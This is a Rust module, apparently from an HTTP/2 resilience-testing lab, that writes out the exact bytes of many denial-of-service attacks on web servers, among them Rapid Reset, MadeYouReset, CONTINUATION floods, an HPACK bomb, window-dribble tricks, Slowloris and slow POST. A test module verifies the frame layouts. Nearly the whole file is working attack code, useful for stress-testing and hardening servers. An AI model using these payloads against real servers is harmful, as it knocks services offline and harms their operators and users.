//! What each attack writes, as plain bytes: the opening after the connection preface,
//! then one unit at a time (a frame, a request, a header line, a body byte). No sockets
//! here; the drivers pace the units and watch how the server answers.

use super::{Continuation, Kind, ResetPrimitive, Wire};
use crate::h2wire::frame::{self, kind, setting};
use crate::h2wire::hpack::request_block;
use h2lab_common::hpack::put_integer;

/// The request an attack sends where it sends requests.
#[derive(Debug, Clone)]
pub struct Request {
    /// `http` or `https`.
    pub scheme: String,
    /// Host and port, for :authority and Host.
    pub authority: String,
    /// Path and query.
    pub path: String,
}

/// Size of the value the HPACK bomb puts in the dynamic table: it fits the default
/// 4096-byte table with its 32-byte overhead and name.
const BOMB_VALUE: usize = 4000;
/// Indexed references to that entry in one HEADERS frame (below the default 16 KiB frame).
const BOMB_REFS: usize = 16_000;
/// Bytes of header literal each growing CONTINUATION frame adds.
const CONTINUATION_CHUNK: usize = 4096;
/// Streams the data dribble keeps open, each with a one-byte window.
pub const DRIBBLE_STREAMS: u32 = 64;
/// Content-Length the slow POST announces.
pub const SLOW_POST_LENGTH: u64 = 1_000_000;

/// One attacking connection's recipe: its state between units.
#[derive(Debug, Clone)]
pub struct Recipe {
    kind: Kind,
    req: Request,
    /// The next client stream id.
    stream: u32,
    /// Units written so far.
    units: u64,
    /// The stream ids are used up.
    exhausted: bool,
}

impl Recipe {
    /// A recipe for `kind` sending `req` where it sends requests.
    pub fn new(kind: Kind, req: Request) -> Recipe {
        Recipe {
            kind,
            req,
            stream: 1,
            units: 0,
            exhausted: false,
        }
    }

    /// Units written so far.
    pub fn units(&self) -> u64 {
        self.units
    }

    /// Whether the connection has used all its stream ids and can send no more units.
    pub fn exhausted(&self) -> bool {
        self.exhausted
    }

    fn block(&self, method: &str, extra: &[(String, String)]) -> Vec<u8> {
        request_block(
            method,
            &self.req.scheme,
            &self.req.authority,
            &self.req.path,
            extra,
        )
    }

    /// A new client stream id, or `None` when the connection has used them all.
    fn next_stream(&mut self) -> Option<u32> {
        let id = self.stream;
        if id > 0x7fff_ffff {
            self.exhausted = true;
            return None;
        }
        self.stream += 2;
        Some(id)
    }

    /// What the connection writes first: for HTTP/2 the preface, SETTINGS and any stream
    /// the attack keeps open; for HTTP/1.1 the head it trickles after.
    pub fn opening(&mut self, out: &mut Vec<u8>) {
        match self.kind.wire() {
            Wire::Connections => {}
            Wire::H1 => self.h1_opening(out),
            Wire::H2 => self.h2_opening(out),
        }
    }

    fn h1_opening(&mut self, out: &mut Vec<u8>) {
        let host = &self.req.authority;
        let path = &self.req.path;
        match self.kind {
            Kind::SlowPost => out.extend_from_slice(
                format!(
                    "POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/octet-stream\r\nContent-Length: {SLOW_POST_LENGTH}\r\n\r\n"
                )
                .as_bytes(),
            ),
            _ => out.extend_from_slice(format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n").as_bytes()),
        }
    }

    fn h2_opening(&mut self, out: &mut Vec<u8>) {
        out.extend_from_slice(frame::PREFACE);
        match self.kind {
            Kind::DataDribble => {
                frame::put_settings(out, &[(setting::INITIAL_WINDOW_SIZE, 1)]);
                for _ in 0..DRIBBLE_STREAMS {
                    let block = self.block("GET", &[]);
                    if let Some(id) = self.next_stream() {
                        frame::put_headers(out, id, &block, true, frame::MAX_FRAME);
                    }
                }
            }
            Kind::ZeroWindow => {
                frame::put_settings(out, &[(setting::INITIAL_WINDOW_SIZE, 0x7fff_ffff)]);
                frame::put_window_update(out, 0, 0x7fff_ffff - 65_535);
            }
            Kind::ContinuationFlood(_) => {
                frame::put_settings(out, &[]);
                let block = self.block("GET", &[]);
                let id = self.next_stream().unwrap_or(1);
                // Neither END_HEADERS nor END_STREAM: the block stays open.
                frame::put_head(out, block.len(), kind::HEADERS, 0, id);
                out.extend_from_slice(&block);
            }
            Kind::EmptyFrames => {
                frame::put_settings(out, &[]);
                let block = self.block("POST", &[]);
                let id = self.next_stream().unwrap_or(1);
                frame::put_headers(out, id, &block, false, frame::MAX_FRAME);
            }
            _ => frame::put_settings(out, &[]),
        }
    }

    /// Appends one unit; `false` when nothing was appended: the stream ids are used up
    /// ([`Recipe::exhausted`]), or the attack has no units (a connection flood only
    /// holds its connections).
    pub fn unit(&mut self, out: &mut Vec<u8>) -> bool {
        let written = match self.kind {
            Kind::Slowloris => {
                out.extend_from_slice(format!("X-Trickle-{}: x\r\n", self.units).as_bytes());
                true
            }
            Kind::SlowPost => {
                out.push(b'a');
                self.units < SLOW_POST_LENGTH
            }
            Kind::ConnectionFlood => false,
            _ => self.h2_unit(out),
        };
        if written {
            self.units += 1;
        }
        written
    }

    fn h2_unit(&mut self, out: &mut Vec<u8>) -> bool {
        match self.kind {
            Kind::PingFlood => {
                frame::put_head(out, 8, kind::PING, 0, 0);
                out.extend_from_slice(&self.units.to_be_bytes());
            }
            Kind::SettingsFlood => frame::put_settings(out, &[]),
            Kind::EmptyFrames => frame::put_head(out, 0, kind::DATA, 0, 1),
            Kind::ContinuationFlood(Continuation::Empty) => {
                frame::put_head(out, 0, kind::CONTINUATION, 0, 1)
            }
            Kind::ContinuationFlood(Continuation::Growing) => {
                let mut chunk = Vec::with_capacity(CONTINUATION_CHUNK + 16);
                let name = format!("x-c{}", self.units);
                chunk.push(0x10); // literal, never indexed, new name
                put_integer(&mut chunk, 0, 7, name.len());
                chunk.extend_from_slice(name.as_bytes());
                let value = CONTINUATION_CHUNK - chunk.len() - 3;
                put_integer(&mut chunk, 0, 7, value);
                chunk.resize(chunk.len() + value, b'a');
                frame::put_head(out, chunk.len(), kind::CONTINUATION, 0, 1);
                out.extend_from_slice(&chunk);
            }
            Kind::DataDribble => {
                // One byte more window on each stream in turn, and on the connection
                // often enough that it never blocks the streams.
                let stream = 1 + 2 * (self.units % u64::from(DRIBBLE_STREAMS)) as u32;
                frame::put_window_update(out, stream, 1);
                if self.units.is_multiple_of(u64::from(DRIBBLE_STREAMS)) {
                    frame::put_window_update(out, 0, DRIBBLE_STREAMS);
                }
            }
            _ => return self.h2_request_unit(out),
        }
        true
    }

    /// The kinds whose unit is a new stream.
    fn h2_request_unit(&mut self, out: &mut Vec<u8>) -> bool {
        let Some(id) = self.next_stream() else {
            return false;
        };
        match self.kind {
            Kind::RapidReset => {
                let block = self.block("GET", &[]);
                frame::put_headers(out, id, &block, true, frame::MAX_FRAME);
                frame::put_rst_stream(out, id, frame::reason::CANCEL);
            }
            Kind::MadeYouReset(p) => {
                let block = self.block("GET", &[]);
                frame::put_headers(out, id, &block, true, frame::MAX_FRAME);
                let p = match p {
                    ResetPrimitive::All => [
                        ResetPrimitive::WindowUpdateZero,
                        ResetPrimitive::WindowOverflow,
                        ResetPrimitive::HalfClosed,
                    ][(self.units % 3) as usize],
                    p => p,
                };
                match p {
                    ResetPrimitive::WindowOverflow => {
                        frame::put_window_update(out, id, 0x7fff_ffff)
                    }
                    ResetPrimitive::HalfClosed => {
                        frame::put_head(out, 1, kind::DATA, 0, id);
                        out.push(b'x');
                    }
                    _ => frame::put_window_update(out, id, 0),
                }
            }
            Kind::HpackBomb => {
                let mut block = self.block("GET", &[]);
                if self.units == 0 {
                    // Literal with incremental indexing, new name: the table's entry 62.
                    block.push(0x40);
                    put_integer(&mut block, 0, 7, 6);
                    block.extend_from_slice(b"x-bomb");
                    put_integer(&mut block, 0, 7, BOMB_VALUE);
                    block.resize(block.len() + BOMB_VALUE, b'b');
                } else {
                    block.resize(block.len() + BOMB_REFS, 0x80 | 62);
                }
                frame::put_headers(out, id, &block, true, frame::MAX_FRAME);
            }
            Kind::ResetFlood => {
                // An uppercase field name makes the request malformed (RFC 9113 §8.2.1).
                let block = self.block("GET", &[]);
                let mut bad = block;
                bad.push(0x00);
                put_integer(&mut bad, 0, 7, 5);
                bad.extend_from_slice(b"X-Bad");
                put_integer(&mut bad, 0, 7, 1);
                bad.push(b'1');
                frame::put_headers(out, id, &bad, true, frame::MAX_FRAME);
            }
            Kind::StreamExhaustion => {
                let block = self.block("POST", &[]);
                frame::put_headers(out, id, &block, false, frame::MAX_FRAME);
            }
            // ZeroWindow and anything else that asks for a response.
            _ => {
                let block = self.block("GET", &[]);
                frame::put_headers(out, id, &block, true, frame::MAX_FRAME);
            }
        }
        true
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::h2wire::frame::{flag, Head, HEAD_LEN};
    use crate::h2wire::hpack::Decoder;

    fn req() -> Request {
        Request {
            scheme: "http".into(),
            authority: "127.0.0.1:1".into(),
            path: "/".into(),
        }
    }

    /// The frames in `bytes` (after the preface, if any): kind, flags, stream, payload.
    fn frames(mut bytes: &[u8]) -> Vec<(u8, u8, u32, Vec<u8>)> {
        if let Some(rest) = bytes.strip_prefix(frame::PREFACE) {
            bytes = rest;
        }
        let mut out = Vec::new();
        while let Some(h) = Head::parse(bytes) {
            let payload = bytes[HEAD_LEN..HEAD_LEN + h.len].to_vec();
            out.push((h.kind, h.flags, h.stream, payload));
            bytes = &bytes[HEAD_LEN + h.len..];
        }
        assert!(bytes.is_empty(), "a frame cut short");
        out
    }

    fn run(kind: Kind, units: usize) -> (Vec<u8>, Vec<u8>) {
        let mut r = Recipe::new(kind, req());
        let (mut open, mut rest) = (Vec::new(), Vec::new());
        r.opening(&mut open);
        for _ in 0..units {
            assert!(r.unit(&mut rest));
        }
        assert_eq!(r.units(), units as u64);
        (open, rest)
    }

    #[test]
    fn rapid_reset_opens_and_cancels_stream_after_stream() {
        let (open, rest) = run(Kind::RapidReset, 3);
        assert!(open.starts_with(frame::PREFACE));
        let f = frames(&rest);
        let shape: Vec<_> = f.iter().map(|(k, fl, s, _)| (*k, *fl, *s)).collect();
        let hdr = flag::END_STREAM | flag::END_HEADERS;
        assert_eq!(
            shape,
            [
                (kind::HEADERS, hdr, 1),
                (kind::RST_STREAM, 0, 1),
                (kind::HEADERS, hdr, 3),
                (kind::RST_STREAM, 0, 3),
                (kind::HEADERS, hdr, 5),
                (kind::RST_STREAM, 0, 5),
            ]
        );
        assert_eq!(f[1].3, frame::reason::CANCEL.to_be_bytes());
    }

    #[test]
    fn made_you_reset_cycles_through_its_three_primitives() {
        let (_, rest) = run(Kind::MadeYouReset(ResetPrimitive::All), 3);
        let after: Vec<_> = frames(&rest)
            .into_iter()
            .filter(|f| f.0 != kind::HEADERS)
            .map(|(k, _, s, p)| (k, s, p))
            .collect();
        assert_eq!(
            after,
            [
                (kind::WINDOW_UPDATE, 1, 0u32.to_be_bytes().to_vec()),
                (
                    kind::WINDOW_UPDATE,
                    3,
                    0x7fff_ffffu32.to_be_bytes().to_vec()
                ),
                (kind::DATA, 5, b"x".to_vec()),
            ]
        );
    }

    #[test]
    fn a_continuation_flood_never_ends_its_header_block() {
        for (variant, len) in [
            (Continuation::Growing, CONTINUATION_CHUNK),
            (Continuation::Empty, 0),
        ] {
            let (open, rest) = run(Kind::ContinuationFlood(variant), 4);
            let opening = frames(&open);
            assert_eq!(opening.last().map(|f| (f.0, f.1)), Some((kind::HEADERS, 0)));
            for (k, fl, s, p) in frames(&rest) {
                assert_eq!(
                    (k, fl & flag::END_HEADERS, s, p.len()),
                    (kind::CONTINUATION, 0, 1, len)
                );
            }
        }
    }

    #[test]
    fn the_hpack_bomb_inserts_once_then_references_the_entry_thousands_of_times() {
        let (_, rest) = run(Kind::HpackBomb, 2);
        let f = frames(&rest);
        assert_eq!(f.len(), 2);
        assert!(f[1].3.len() <= frame::MAX_FRAME && f[1].3.len() > BOMB_REFS);
        let mut d = Decoder::default();
        d.decode(&f[0].3).expect("the insert decodes");
        d.decode(&f[1].3)
            .expect("entry 62 exists: the references decode");
        let mut fresh = Decoder::default();
        assert!(
            fresh.decode(&f[1].3).is_err(),
            "without the insert, 62 is no entry"
        );
    }

    #[test]
    fn floods_write_one_control_frame_per_unit() {
        for (k, want) in [
            (Kind::PingFlood, (kind::PING, 8, 0)),
            (Kind::SettingsFlood, (kind::SETTINGS, 0, 0)),
            (Kind::EmptyFrames, (kind::DATA, 0, 1)),
        ] {
            let (_, rest) = run(k, 5);
            let f = frames(&rest);
            assert_eq!(f.len(), 5, "{k}");
            assert!(f
                .iter()
                .all(|(kd, fl, s, p)| (*kd, p.len(), *s) == want && *fl == 0));
        }
    }

    #[test]
    fn the_data_dribble_asks_for_one_byte_windows() {
        let (open, rest) = run(Kind::DataDribble, 2);
        let opening = frames(&open);
        assert_eq!(
            opening[0].3,
            [0, 4, 0, 0, 0, 1],
            "SETTINGS_INITIAL_WINDOW_SIZE 1"
        );
        assert_eq!(opening.len(), 1 + DRIBBLE_STREAMS as usize);
        let f = frames(&rest);
        assert_eq!(f[0].2, 1);
        assert_eq!((f[1].2, f[2].2), (0, 3), "the connection window too");
    }

    #[test]
    fn http1_attacks_trickle_a_head_or_a_body() {
        let (open, rest) = run(Kind::Slowloris, 2);
        assert!(open.starts_with(b"GET / HTTP/1.1\r\nHost: 127.0.0.1:1\r\n"));
        assert!(!open.ends_with(b"\r\n\r\n") && !rest.windows(4).any(|w| w == b"\r\n\r\n"));
        let (open, rest) = run(Kind::SlowPost, 3);
        assert!(open.ends_with(format!("Content-Length: {SLOW_POST_LENGTH}\r\n\r\n").as_bytes()));
        assert_eq!(rest, b"aaa");
    }

    #[test]
    fn stream_ids_run_out_instead_of_wrapping() {
        let mut r = Recipe::new(Kind::RapidReset, req());
        r.stream = 0x7fff_ffff;
        let mut out = Vec::new();
        assert!(r.unit(&mut out));
        out.clear();
        assert!(!r.unit(&mut out) && out.is_empty() && r.exhausted());
        assert_eq!(r.units(), 1);
    }
}
